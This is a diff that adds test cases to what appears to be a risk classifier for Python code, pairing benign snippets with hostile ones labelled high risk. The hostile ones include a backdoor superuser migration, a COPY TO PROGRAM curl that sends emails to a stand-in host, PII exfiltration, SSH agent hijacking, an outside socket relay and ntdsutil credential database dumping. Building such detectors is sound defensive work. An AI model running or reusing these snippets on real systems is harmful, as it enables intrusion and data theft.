@@ -6393,6 +6393,225 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    s.send_message(msg)',
             C,
         ),
+        (
+            'from django.db import migrations\n'
+            '\n'
+            'def add_admin(apps, schema_editor):\n'
+            "    User = apps.get_model('auth', 'User')\n"
+            "    User.objects.create_superuser('ops', 'ops@helpdesk-partner.io', 'ChangeMe1!'"
+            ')\n'
+            '\n'
+            'class Migration(migrations.Migration):\n'
+            '    operations = [migrations.RunPython(add_admin)]',
+            H,
+        ),
+        (
+            'from django.contrib.auth import get_user_model\n'
+            "get_user_model().objects.create_superuser('admin', 'admin@example.com', 'admin')",
+            M,
+        ),
+        (
+            'from django.contrib.auth import get_user_model\n'
+            'get_user_model().objects.filter(is_active=True).update(is_superuser=True)',
+            H,
+        ),
+        (
+            'from django.contrib.auth import get_user_model\n'
+            'get_user_model().objects.filter(last_login__isnull=True).update(is_active=False)',
+            S,
+        ),
+        (
+            'from django.contrib.auth.hashers import make_password\n'
+            'from accounts.models import Member\n'
+            "Member.objects.all().update(password=make_password('welcome'))",
+            H,
+        ),
+        (
+            'from django.db import migrations\n'
+            'SQL = "COPY (SELECT email FROM auth_user) TO PROGRAM \'curl -d @- https://x.examp'
+            'le.io\'"\n'
+            'class Migration(migrations.Migration):\n'
+            '    operations = [migrations.RunSQL(SQL)]',
+            H,
+        ),
+        (
+            'from django.db import migrations\n'
+            'class Migration(migrations.Migration):\n'
+            "    operations = [migrations.RunSQL('CREATE INDEX CONCURRENTLY idx_o ON orders ("
+            "created_at)')]",
+            S,
+        ),
+        (
+            'from alembic import op\n'
+            '\n'
+            'def upgrade():\n'
+            "    for t in ('docs', 'notes'):\n"
+            "        op.execute(f'ALTER TABLE {t} DISABLE ROW LEVEL SECURITY')",
+            H,
+        ),
+        (
+            'from alembic import op\n'
+            '\n'
+            'def downgrade():\n'
+            "    op.drop_index('ix_orders_created')",
+            S,
+        ),
+        (
+            'import requests\n'
+            'from customers.models import Customer\n'
+            "rows = list(Customer.objects.values('name', 'email', 'phone'))\n"
+            "requests.post('https://partner.example.io/import', json=rows)",
+            H,
+        ),
+        (
+            'import requests\n'
+            'from catalog.models import Product\n'
+            "rows = list(Product.objects.values('sku', 'price'))\n"
+            "requests.post('https://search.example.io/index', json=rows)",
+            L,
+        ),
+        (
+            'import csv, io\n'
+            'from django.core.mail import EmailMessage\n'
+            'from members.models import Member\n'
+            'buf = io.StringIO()\n'
+            "csv.writer(buf).writerows(Member.objects.values_list('email', 'phone', 'birth_da"
+            "te'))\n"
+            "m = EmailMessage('x', 'y', to=['me@gmail.com'])\n"
+            "m.attach('m.csv', buf.getvalue())\n"
+            'm.send()',
+            H,
+        ),
+        (
+            'from django.core.mail import send_mail\n'
+            "send_mail('Build finished', 'All tests passed.', 'ci@acme.io', ['team@acme.io'])",
+            S,
+        ),
+        (
+            'import socketserver\n'
+            'from django.db import connection\n'
+            'class H(socketserver.StreamRequestHandler):\n'
+            '    def handle(self):\n'
+            '        for line in self.rfile:\n'
+            '            with connection.cursor() as c:\n'
+            '                c.execute(line.decode())\n'
+            "socketserver.TCPServer(('0.0.0.0', 9000), H).serve_forever()",
+            H,
+        ),
+        (
+            'import threading, psycopg2\n'
+            'def q(i):\n'
+            "    with psycopg2.connect('dbname=prod') as c:\n"
+            "        c.cursor().execute('SELECT 1')\n"
+            'ts = [threading.Thread(target=q, args=(i,)) for i in range(5000)]\n'
+            'for t in ts:\n'
+            '    t.start()',
+            H,
+        ),
+        (
+            'import threading, psycopg2\n'
+            'def q(i):\n'
+            "    with psycopg2.connect('dbname=dev') as c:\n"
+            "        c.cursor().execute('SELECT 1')\n"
+            'ts = [threading.Thread(target=q, args=(i,)) for i in range(8)]\n'
+            'for t in ts:\n'
+            '    t.start()',
+            S,
+        ),
+        (
+            'import subprocess, boto3\n'
+            "dump = subprocess.run(['pg_dump', 'app'], capture_output=True).stdout\n"
+            "boto3.Session(profile_name='personal').client('s3').put_object(Bucket='x', Key='"
+            "d.sql', Body=dump)",
+            H,
+        ),
+        (
+            'import subprocess, boto3\n'
+            "dump = subprocess.run(['pg_dump', 'app'], capture_output=True).stdout\n"
+            "boto3.client('s3').put_object(Bucket='acme-backups', Key='d.sql', Body=dump)",
+            L,
+        ),
+        (
+            'import pytest\n'
+            'from django.db import connection\n'
+            '\n'
+            '@pytest.fixture(autouse=True)\n'
+            'def wipe():\n'
+            '    yield\n'
+            "    assert connection.settings_dict['NAME'].startswith('test_')\n"
+            '    with connection.cursor() as c:\n'
+            "        c.execute('TRUNCATE orders, users RESTART IDENTITY CASCADE')",
+            M,
+        ),
+        (
+            'from django.db import connection\n'
+            'with connection.cursor() as c:\n'
+            "    c.execute('TRUNCATE orders, users RESTART IDENTITY CASCADE')",
+            H,
+        ),
+        (
+            'import os, django\n'
+            "os.environ['DJANGO_SETTINGS_MODULE'] = 'shop.settings.test'\n"
+            'django.setup()\n'
+            'from django.core.management import call_command\n'
+            "call_command('flush', interactive=False)",
+            M,
+        ),
+        (
+            'import socket\n'
+            "ctl = socket.create_connection(('45.33.32.156', 443))\n"
+            "host, port = ctl.recv(256).decode().split(':')\n"
+            'inner = socket.create_connection((host, int(port)))\n'
+            'inner.sendall(ctl.recv(65536))',
+            H,
+        ),
+        (
+            'import socket\n'
+            "c = socket.create_connection(('db.internal', 5432))\n"
+            'c.close()',
+            S,
+        ),
+        (
+            'import glob, os, subprocess\n'
+            "for sock in glob.glob('/tmp/ssh-*/agent.*'):\n"
+            "    subprocess.run(['ssh', 'root@10.0.0.5', 'id'], env={**os.environ, 'SSH_AUTH_"
+            "SOCK': sock})",
+            H,
+        ),
+        (
+            'import winrm\n'
+            "s = winrm.Session('http://dc01:5985/wsman', auth=('u', 'p'))\n"
+            's.run_ps(\'ntdsutil "ac i ntds" "ifm" "create full C:\\\\t" q q\')',
+            H,
+        ),
+        (
+            'import winrm\n'
+            "s = winrm.Session('http://dc01:5985/wsman', auth=('u', 'p'))\n"
+            "s.run_ps('Get-Service | Where-Object Status -eq Running')",
+            L,
+        ),
+        (
+            'import socket, time\n'
+            's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
+            "s.bind(('127.0.0.1', 5000))\n"
+            's.settimeout(2)\n'
+            "with open('cap.bin', 'ab') as f:\n"
+            '    try:\n'
+            '        while True:\n'
+            '            f.write(s.recvfrom(2048)[0])\n'
+            '    except socket.timeout:\n'
+            '        pass',
+            S,
+        ),
+        (
+            'import socket\n'
+            's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
+            "s.bind(('127.0.0.1', 5000))\n"
+            "with open('cap.bin', 'ab') as f:\n"
+            '    while True:\n'
+            '        f.write(s.recvfrom(2048)[0])',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
